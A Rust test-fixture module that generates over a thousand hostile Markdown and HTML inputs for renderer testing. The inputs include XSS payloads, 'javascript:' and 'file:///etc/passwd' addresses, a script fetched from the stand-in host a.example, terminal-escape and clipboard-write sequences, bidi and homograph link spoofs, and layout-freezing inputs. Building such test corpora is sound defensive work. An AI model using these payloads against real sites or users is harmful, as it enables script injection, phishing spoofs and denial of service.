//! Hostile texts by families, for every place where a text is shown. What would run says so in
//! `window.taken`; what would be fetched is asked for at `https://a.example`, or where the caller listens.

/// Addresses, most of which nobody may open.
pub const ADDRESSES: &[&str] = &[
    "javascript:window.taken=1",
    "JaVaScRiPt:window.taken=1",
    "javascript&colon;window.taken=1",
    "&#106;avascript:window.taken=1",
    "java&Tab;script:window.taken=1",
    "&#1;javascript:window.taken=1",
    "javascript://https://a.example/%0awindow.taken=1",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=window.taken=1>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "about:blank",
    "tauri://localhost/",
    "ipc://localhost/send",
    "asset://localhost/etc/passwd",
    "ftp://a.example/x",
    "ws://a.example/x",
    "intent://a.example/#Intent;end",
    "view-source:https://a.example/",
    "//a.example/x",
    "/x",
    "#x",
    "https:",
    "http://",
    "mailto:",
    "https://[",
];

/// Every way to write a link or a picture, with an address in place of `@`.
pub const FORMS: &[&str] = &[
    "[x](@)",
    "[x](<@>)",
    "[x](@ \"onmouseover=window.taken=1\")",
    "[x][r]\n\n[r]: @",
    "[r][]\n\n[r]: <@>",
    "[r]\n\n[r]: @ 'a\" onclick=\"b'",
    "![x](@)",
    "![x][r]\n\n[r]: @",
    "[![x](@)](@)",
    "[![x](@)](https://a.example/)",
    "<@>",
    "@",
    "x[^1]\n\n[^1]: [x](@)",
    "# [x](@)",
    "| [x](@) | ![x](@) |\n|---|---|\n| <@> | @ |",
    "- [ ] [x](@) ![x](@)",
];

const HTML: &[&str] = &[
    "<script>window.taken=1</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<img src=x onerror=window.taken=1>",
    "<img src=\"https://a.example/pixel.png\">",
    "<svg onload=window.taken=1>",
    "<svg><script>window.taken=1</script></svg>",
    "<svg><a xlink:href=\"javascript:window.taken=1\"><text>x</text></a></svg>",
    "<math><mtext><script>window.taken=1</script></mtext></math>",
    "<iframe src=javascript:window.taken=1></iframe>",
    "<object data=x></object><embed src=x>",
    "<a href=\"javascript:window.taken=1\" id=x class=y>x</a>",
    "<form action=//a.example><input name=x><button formaction=javascript:window.taken=1>",
    "<body onload=window.taken=1>",
    "<style>*{background:url(//a.example)}</style>",
    "<link rel=stylesheet href=//a.example>",
    "<meta http-equiv=refresh content=\"0;url=//a.example\">",
    "<base href=//a.example>",
    "<details open ontoggle=window.taken=1>",
    "<template><script>window.taken=1</script></template>",
    "<!--><script>window.taken=1</script-->",
    "<![CDATA[<script>window.taken=1</script>]]>",
    "<?php echo '<script>' ?>",
    "<!DOCTYPE html><script>",
    "</code></pre><script>window.taken=1</script>",
    "</p></div></article><h1>x",
    "&lt;script&gt;window.taken=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.taken=1&#62;",
    "<scr\0ipt>window.taken=1</scr\0ipt>",
    "<<script>window.taken=1//<</script>",
    "<a title=\"`<b onmouseover=window.taken=1>`\">",
    "\"><script>window.taken=1</script>",
    "' onmouseover='window.taken=1",
    "{{constructor.constructor('window.taken=1')()}}",
    "\u{202e}<script>\u{2066}",
    "\u{1b}]8;;https://a.example\u{7}x\u{1b}]8;;\u{7}",
];

/// Places where a text can stand, in place of `@`.
const PLACES: &[&str] = &[
    "@",
    "a @ b",
    "> @",
    "- @\n- [x] @",
    "# @",
    "`@`",
    "```@\n@\n```",
    "```\n@",
    "~~~ @ x=\"y\"\n@\n~~~",
    "    @",
    "| @ | b |\n|---|---|\n| @ | `@` |",
    "[@](https://a.example/@)",
    "![@](https://a.example/@ \"@\")",
    "[^@]\n\n[^@]: @",
    "$@$ and \\(@\\)",
    "$$\n@\n$$",
    "**@** _@_ ~~@~~",
    "<div>\n@\n\n</div>",
];

/// Texts of a kind of their own: fences left open, formulas without end, sequences that steer a terminal,
/// marks that turn text around, links whose names nobody sees.
const ODD: &[&str] = &[
    "```html\n<script>window.taken=1</script>",
    "~~~\n<img src=x onerror=window.taken=1>\n```",
    "````\n```\n<svg onload=window.taken=1>",
    "```<script>window.taken=1</script>\n```",
    "```\" onmouseover=\"window.taken=1\nx\n```",
    "$\\def\\a{\\a\\a}\\a^2$",
    "$\\newcommand{\\x}{\\x\\x}\\x^2$",
    "$\\operatorname{<img src=x onerror=window.taken=1>}^2$",
    "$\\text{<script>window.taken=1</script>}^2$",
    "\\[\\href{javascript:window.taken=1}{x}^2\\]",
    "$\\url{https://a.example/}^2$",
    "$\\includegraphics{https://a.example/x.png}^2$",
    "$\\style{background:url(https://a.example/)}{x}^2$",
    "$$\\rule{100000em}{100000em}^2$$",
    "$\\hspace{1000000em}x^2$",
    "$x^{{{{{{{{{{{{{{2}}}}}}}}}}}}}}$",
    "\u{1b}[2J\u{1b}[1;1Hgone",
    "\u{1b}]0;title\u{7}\u{9b}31m",
    "\u{1b}]52;c;ZWNobyBoaQ==\u{7}",
    "a\rb\u{8}\u{8}\u{8}c",
    "\u{202e}gnp.exe\u{202c}",
    "`\u{2066}if admin\u{2069} \u{202d}begin`",
    "[https://bank.example](https://a.example/) and [\u{202e}elpmaxe.knab](https://a.example/)",
    "[\u{200b}](https://a.example/) [\u{2060}\u{3164}](https://a.example/)",
    "[bank\u{200b}.example](https://a.example/)",
    "[аpple.example](https://xn--pple-43d.example/)",
    "[x](https://a.example@b.example/)",
    "![\u{feff}](https://a.example/p.png)",
    "\u{0}\u{fdd0}0\u{fdd1}\u{ffff}",
    "<https://a.example/\u{202e}x>",
];

/// Every hostile text: more than a thousand. `outside` takes the place of `https://a.example`.
pub fn texts(outside: &str) -> Vec<String> {
    let put = |forms: &'static [&'static str], inner: &'static [&'static str]| {
        forms.iter().flat_map(move |form| inner.iter().map(move |each| form.replace('@', each)))
    };
    let all = put(FORMS, ADDRESSES).chain(put(PLACES, HTML)).chain(ODD.iter().map(|odd| (*odd).to_owned()));
    all.map(|text| text.replace("https://a.example", outside)).collect()
}

/// More than three hundred of them, in which every address, tag, form and place stands.
pub fn some(outside: &str) -> Vec<String> {
    let odd = texts(outside).len() - ODD.len();
    texts(outside)
        .into_iter()
        .enumerate()
        .filter(|(at, _)| *at >= odd || at % 3 == (at / 35) % 3)
        .map(|(_, text)| text)
        .collect()
}

/// Texts made to freeze whoever lays them out, with what they are.
pub fn monsters() -> Vec<(&'static str, String)> {
    let table =
        |columns: usize| format!("{}|\n{}|\n{}|\n", "|a".repeat(columns), "|-".repeat(columns), "|b".repeat(columns));
    vec![
        ("ten thousand quotes in each other", format!("{}x", ">".repeat(10_000))),
        ("ten thousand lists in each other", format!("{}x", "- ".repeat(10_000))),
        ("a mebibyte in one line", "lorem ipsum dolor ".repeat(1024 * 1024 / 18)),
        ("a mebibyte without a space", "x".repeat(1024 * 1024)),
        ("a table of a thousand columns", table(1_000)),
        ("a fence that never closes", format!("```rust\n{}", "let x = \"<script>\";\n".repeat(20_000))),
        ("formulas without end", "$\\frac{a}{\\sqrt{b}}$ ".repeat(20_000)),
        ("one formula without end", format!("\\[{}x{}\\]", "\\frac{".repeat(600), "}{y}".repeat(600))),
        ("brackets that nobody closes", "\\( [a](".repeat(20_000)),
        ("a hundred thousand zero-width spaces", "\u{200b}".repeat(100_000)),
        ("a hundred thousand overrides", "\u{202e}".repeat(100_000)),
        ("fifty thousand overrides, each behind a letter", "a\u{202e}".repeat(50_000)),
        ("fifty thousand isolates in code, each behind a letter", format!("```\n{}", "a\u{2066}".repeat(50_000))),
    ]
}
